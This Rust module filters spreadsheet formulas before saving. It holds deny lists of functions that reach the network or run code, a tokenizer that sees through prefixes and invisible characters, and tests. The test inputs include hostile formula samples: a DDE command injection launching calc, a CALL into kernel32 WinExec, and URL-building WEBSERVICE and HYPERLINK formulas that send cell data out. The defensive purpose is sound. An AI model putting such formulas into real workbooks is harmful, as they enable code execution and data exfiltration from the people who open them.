//! What a formula reaches for: functions that leave the workbook, external references, DDE.

/// Functions that reach out or run code, refused wherever the name stands (also uncalled, as an argument of MAP).
const REACH_OUT: &[&str] = &[
    "WEBSERVICE",
    "FILTERXML",
    "RTD",
    "IMAGE",
    "STOCKHISTORY",
    "IMPORTDATA",
    "IMPORTXML",
    "IMPORTHTML",
    "IMPORTFEED",
    "IMPORTRANGE",
    "GOOGLEFINANCE",
    "GOOGLETRANSLATE",
    "SQL.REQUEST",
    "REGISTER.ID",
    "DDEINITIATE",
    "CUBEMEMBER",
    "CUBEVALUE",
    "CUBESET",
    "CUBESETCOUNT",
    "CUBEKPIMEMBER",
    "CUBERANKEDMEMBER",
    "CUBEMEMBERPROPERTY",
    "DETECTLANGUAGE",
    "COPILOT",
];
/// Macro functions and short names that may also be names of cells' ranges: refused where they are called.
const REFUSED_CALLS: &[&str] = &[
    "CALL",
    "REGISTER",
    "EXEC",
    "EXECUTE",
    "INITIATE",
    "POKE",
    "REQUEST",
    "TERMINATE",
    "RUN",
    "EVALUATE",
    "FOPEN",
    "FWRITE",
    "FWRITELN",
    "FREAD",
    "FILES",
    "DDE",
    "SEND.KEYS",
    "PY",
    "TRANSLATE",
    "HALT",
    "ALERT",
    "GET.WORKSPACE",
    "GET.CELL",
    "GET.DOCUMENT",
    "GET.WORKBOOK",
    "OPEN",
    "SAVE.AS",
    "WORKBOOK.OPEN",
    "SET.VALUE",
    "FORMULA",
    "GOTO",
    "UNREGISTER",
    "VBA.INSERT.FILE",
    "ECHO",
    "APP.ACTIVATE",
];
/// Prefixes that a file puts before newer functions.
const PREFIXES: &[&str] =
    &["_XLFN.", "_XLWS.", "_XLUDF.", "_XLL.", "_XLPM.", "COM.MICROSOFT.", "COM.SUN.STAR.", "ORG.OPENOFFICE."];

/// Why `formula` must not be saved: a reason code and what was found; `None` when it stays in the workbook.
pub fn refused(formula: &str) -> Option<(&'static str, String)> {
    let tokens = tokens(&folded(formula));
    let mut has_indirect = false;
    let mut builds_text = false;
    let mut suspicious_text = false;
    for (position, token) in tokens.iter().enumerate() {
        let next = tokens.get(position + 1);
        match token {
            Token::External => return Some(("external_reference", "a reference to another workbook".into())),
            Token::Pipe => return Some(("dde", "a DDE link".into())),
            Token::Name(name) => {
                let is_called = next == Some(&Token::Open);
                let is_sheet = next == Some(&Token::Bang);
                if name == "HYPERLINK"
                    && !is_sheet
                    && !stays_inside(tokens.get(position + 1..).unwrap_or_default())
                {
                    return Some(("function_reaches_out", name.clone()));
                }
                let is_out = REACH_OUT.contains(&name.as_str()) && !is_sheet;
                if is_out || (is_called && REFUSED_CALLS.contains(&name.as_str())) {
                    return Some(("function_reaches_out", name.clone()));
                }
                has_indirect |= name == "INDIRECT";
                builds_text |= matches!(name.as_str(), "CHAR" | "UNICHAR" | "CODE");
            }
            Token::Text(text) => {
                suspicious_text |= ["[", "://", "\\\\", "|"].iter().any(|mark| text.contains(mark))
            }
            Token::Open | Token::Bang | Token::Other => {}
        }
    }
    (has_indirect && (suspicious_text || builds_text))
        .then(|| ("external_reference", "INDIRECT with a built reference".into()))
}

/// Whether the first argument of HYPERLINK is a text that begins with `#`: a place in the same workbook.
fn stays_inside(after: &[Token]) -> bool {
    matches!(after, [Token::Open, Token::Text(text), ..] if text.starts_with('#'))
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Name(String),
    Text(String),
    Open,
    Bang,
    /// `[` where a reference begins, or in a quoted sheet name; a quoted name with a path or address.
    External,
    /// `|`, which no operator uses.
    Pipe,
    Other,
}

/// Upper case, full-width letters as plain ones, without invisible characters.
pub(super) fn folded(formula: &str) -> String {
    let visible = formula.chars().filter(|c| {
        !matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
            && (!c.is_control() || c.is_whitespace())
    });
    let plain = visible.map(|c| match c {
        '\u{ff01}'..='\u{ff5e}' => char::from_u32(u32::from(c) - 0xfee0).unwrap_or(c),
        c if c.is_whitespace() => ' ',
        c => c,
    });
    plain.flat_map(char::to_uppercase).collect()
}

fn tokens(formula: &str) -> Vec<Token> {
    let mut tokens = Vec::new();
    let mut rest = formula.chars().peekable();
    let mut brackets = 0usize;
    while let Some(c) = rest.next() {
        if brackets > 0 {
            match c {
                '\'' => drop(rest.next()),
                '[' => brackets += 1,
                ']' => brackets -= 1,
                _ => {}
            }
            continue;
        }
        match c {
            ' ' => {}
            '"' | '\'' => {
                let quoted = quoted(&mut rest, c);
                let leads_out = quoted.contains('[') || quoted.contains("\\") || quoted.contains('/');
                tokens.push(match c {
                    '"' => Token::Text(quoted),
                    _ if leads_out => Token::External,
                    _ => Token::Other,
                });
            }
            '[' if matches!(tokens.last(), Some(Token::Name(_))) => brackets = 1,
            '[' => tokens.push(Token::External),
            '|' => tokens.push(Token::Pipe),
            '(' => tokens.push(Token::Open),
            '!' => tokens.push(Token::Bang),
            c if is_name(c) => {
                let mut name = String::from(c);
                while let Some(c) = rest.next_if(|c| is_name(*c)) {
                    name.push(c);
                }
                tokens.push(Token::Name(without_prefixes(&name).to_owned()));
            }
            _ => tokens.push(Token::Other),
        }
    }
    tokens
}

fn quoted(rest: &mut std::iter::Peekable<std::str::Chars<'_>>, quote: char) -> String {
    let mut text = String::new();
    while let Some(c) = rest.next() {
        if c != quote {
            text.push(c);
        } else if rest.next_if_eq(&quote).is_some() {
            text.push(quote);
        } else {
            break;
        }
    }
    text
}

pub(super) fn is_name(c: char) -> bool {
    c.is_alphanumeric() || matches!(c, '_' | '.' | '\\')
}

fn without_prefixes(mut name: &str) -> &str {
    while let Some(rest) = PREFIXES.iter().find_map(|prefix| name.strip_prefix(prefix)) {
        name = rest;
    }
    name
}

#[cfg(test)]
mod tests {
    use super::refused;

    #[test]
    fn every_spelling_of_a_function_that_reaches_out_is_refused() {
        for formula in [
            "WEBSERVICE(\"http://x\")",
            "_xlfn.WEBSERVICE(A1)",
            "1+webService (A1)",
            "_xlfn._xlws.FILTERXML(A1,\"//a\")",
            "ＷＥＢＳＥＲＶＩＣＥ(A1)",
            "WEB\u{200b}SERVICE(A1)",
            "WEBSERVICE\n(A1)",
            "MAP(A1:A3,_xlfn.WEBSERVICE)",
            "HYPERLINK(\"https://x?\"&A1,\"go\")",
            "HYPERLINK(A1)",
            "_xlfn.IMAGE(\"https://x/\"&A1)",
            "RTD(\"s\",,\"x\")",
            "CALL(\"kernel32\",\"WinExec\",\"JJ\",\"calc\",1)",
            "REGISTER.ID(\"a\",\"b\")",
            "EXEC(\"calc\")",
            "cmd|'/c calc'!A0",
            "IMPORTXML(A1,\"//a\")",
            "[1]Sheet1!A1",
            "'[1]Sheet 1'!A1",
            "SUM('http://x/[b.xlsx]S'!A1)",
            "'\\\\server\\share\\[b.xlsx]S'!A1",
            "INDIRECT(\"'[http://x/b.xlsx]S'!A1\")",
            "INDIRECT(CHAR(91)&\"b]S!A1\")",
            "IF(1,[2]!Name,0)",
            "LET(f,_xlfn.WEBSERVICE,f(A1))",
            "_xlws.PY(1,A1)",
            "STOCKHISTORY(A1)",
        ] {
            assert!(refused(formula).is_some(), "{formula} passed");
        }
    }

    #[test]
    fn formulas_that_stay_in_the_workbook_pass() {
        for formula in [
            "SUMIFS(Sales!$C$2:$C$99,Sales!$A$2:$A$99,A2)",
            "SUMPRODUCT((A1:A9=\"x\")*(B1:B9))",
            "INDEX(A:A,MATCH(1,B:B,0))",
            "_xlfn._xlws.FILTER(A1:B9,B1:B9>2)",
            "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)",
            "Table1[[#This Row],[Web Service]]",
            "SUM(Table1[Image])",
            "'Q1 2026'!A1",
            "Image!A1",
            "HYPERLINK(\"#Sheet2!A1\",\"go\")",
            "\"WEBSERVICE(1) | [x]\"",
            "INDIRECT(\"A\"&ROW())",
            "IF(A1<>\"\",A1&\" | \"&B1,\"\")",
            "_xlfn.XLOOKUP(A1,B:B,C:C)",
            "SUM(Table1[[#All],[a]:[b]])",
        ] {
            assert_eq!(refused(formula), None, "{formula} was refused");
        }
    }
}
